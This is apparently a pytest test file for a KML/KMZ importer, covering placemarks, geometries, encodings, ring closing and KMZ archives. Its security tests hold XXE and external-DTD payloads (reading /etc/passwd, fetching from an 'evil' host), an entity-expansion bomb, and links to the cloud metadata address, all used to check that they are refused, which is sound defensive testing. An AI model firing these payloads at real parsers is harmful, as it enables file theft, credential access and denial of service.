"""KML: placemarks with data and folder; nothing else is opened, no DTD is taken."""

from __future__ import annotations

from pathlib import Path

import pytest

from atlas.core.errors import DataError
from atlas.core.imports.raw import RawLayer
from tests.ingest.files import codes, layer_of, read_bytes, zipped

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
POINT = "<Point><coordinates>106.67,26.41,1071</coordinates></Point>"


def kml(body: str, *, head: str = HEAD) -> str:
    return f'{head}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{body}</Document></kml>'


def of(body: str, tmp_path: Path, *, encoding: str = "utf-8", head: str = HEAD) -> RawLayer:
    return layer_of(read_bytes(kml(body, head=head).encode(encoding), "a.kml", tmp_path))


def test_placemarks_carry_name_folder_data_and_height(tmp_path: Path) -> None:
    body = f"""<name>贵州</name><Schema name="s" id="s"><SimpleField type="double" name="储量"/></Schema>
    <Folder><name>矿点</name><Placemark><name>铝土矿</name><description><![CDATA[<b>大型</b>]]></description>
    <ExtendedData><Data name="县"><value>清镇市</value></Data>
    <SchemaData schemaUrl="#s"><SimpleData name="储量">12.5</SimpleData></SchemaData></ExtendedData>{POINT}</Placemark></Folder>"""
    layer = of(body, tmp_path)
    row = layer.table.iloc[0].to_dict()
    assert row == {
        "name": "铝土矿",
        "description": "<b>大型</b>",
        "folder": "贵州/矿点",
        "县": "清镇市",
        "储量": 12.5,
    }
    assert layer.geometries is not None
    assert tuple(layer.geometries[0].coords[0]) == (106.67, 26.41, 1071.0)
    assert layer.declared_crs == "OGC:CRS84"


@pytest.mark.parametrize(
    ("shape", "kind"),
    [
        ("<LineString><coordinates>106,26 107,27</coordinates></LineString>", "LineString"),
        ("<LinearRing><coordinates>106,26 107,26 107,27</coordinates></LinearRing>", "LineString"),
        (f"<MultiGeometry>{POINT}{POINT}</MultiGeometry>", "MultiPoint"),
        (
            f"<MultiGeometry>{POINT}<LineString><coordinates>1,2 3,4</coordinates></LineString></MultiGeometry>",
            "GeometryCollection",
        ),
        (
            "<Polygon><outerBoundaryIs><LinearRing><coordinates>106,26 107,26 107,27 106,26</coordinates></LinearRing>"
            "</outerBoundaryIs></Polygon>",
            "Polygon",
        ),
    ],
)
def test_every_geometry_is_read(tmp_path: Path, shape: str, kind: str) -> None:
    layer = of(f"<Placemark>{shape}</Placemark>", tmp_path)
    assert layer.geometries is not None
    assert layer.geometries[0].geom_type == kind


def test_blanks_behind_commas_are_understood(tmp_path: Path) -> None:
    layer = of(
        "<Placemark><Point><coordinates> 106.67, 26.41, 0 </coordinates></Point></Placemark>", tmp_path
    )
    assert layer.geometries is not None
    assert layer.geometries[0].y == 26.41


def test_links_and_overlays_are_told_and_never_opened(tmp_path: Path) -> None:
    body = f"""<NetworkLink><Link><href>http://169.254.169.254/latest</href></Link></NetworkLink>
    <GroundOverlay><Icon><href>file:///etc/passwd</href></Icon></GroundOverlay><Placemark>{POINT}</Placemark>"""
    layer = of(body, tmp_path)
    assert len(layer.table) == 1
    assert [(message.code, message.detail["field"]) for message in layer.messages] == [
        ("kml_element_ignored", "NetworkLink"),
        ("kml_element_ignored", "GroundOverlay"),
    ]


@pytest.mark.parametrize(
    "head",
    [
        HEAD + '<!DOCTYPE kml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        HEAD + '<!DOCTYPE kml SYSTEM "http://evil/x.dtd">',
        HEAD + '<!DOCTYPE kml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
        HEAD + '<!DOCTYPE kml [<!ENTITY % p SYSTEM "http://evil/p"> %p;]>',
    ],
)
def test_every_dtd_is_refused(tmp_path: Path, head: str) -> None:
    with pytest.raises(DataError) as refused:
        of(f"<Placemark><name>&xxe;</name>{POINT}</Placemark>", tmp_path, head=head)
    assert refused.value.code == "xml_dtd"


@pytest.mark.parametrize(
    ("head", "encoding"),
    [
        ('<?xml version="1.0" encoding="GB2312"?>', "gbk"),
        (HEAD, "gbk"),
        ("", "utf-8"),
        ('<?xml version="1.0" encoding="UTF-16"?>', "utf-16"),
    ],
)
def test_text_is_read_whatever_the_file_says_of_it(tmp_path: Path, head: str, encoding: str) -> None:
    layer = of(f"<Placemark><name>花溪区</name>{POINT}</Placemark>", tmp_path, head=head, encoding=encoding)
    assert layer.table["name"][0] == "花溪区"


def test_broken_xml_is_refused_with_the_line(tmp_path: Path) -> None:
    with pytest.raises(DataError) as refused:
        read_bytes(kml("<Placemark>\n<name>a</nam>").encode(), "a.kml", tmp_path)
    assert (refused.value.code, refused.value.detail["row"]) == ("xml_invalid", 3)


def test_coordinates_that_are_none_are_told(tmp_path: Path) -> None:
    layer = of("<Placemark><Point><coordinates>东经106度</coordinates></Point></Placemark>", tmp_path)
    assert codes(layer) == ["geometry_unreadable"]


def test_open_rings_are_closed_and_told(tmp_path: Path) -> None:
    ring = "<LinearRing><coordinates>106,26 107,26 107,27</coordinates></LinearRing>"
    layer = of(
        f"<Placemark><Polygon><outerBoundaryIs>{ring}</outerBoundaryIs></Polygon></Placemark>", tmp_path
    )
    assert codes(layer) == ["ring_closed"]


def test_a_kmz_is_an_archive_with_a_kml(tmp_path: Path) -> None:
    data = zipped({"doc.kml": kml(f"<Placemark>{POINT}</Placemark>").encode(), "files/icon.png": b"\x89PNG"})
    upload = read_bytes(data, "点.kmz", tmp_path)
    assert layer_of(upload).member.kind == "kml"
    assert upload.messages == ()
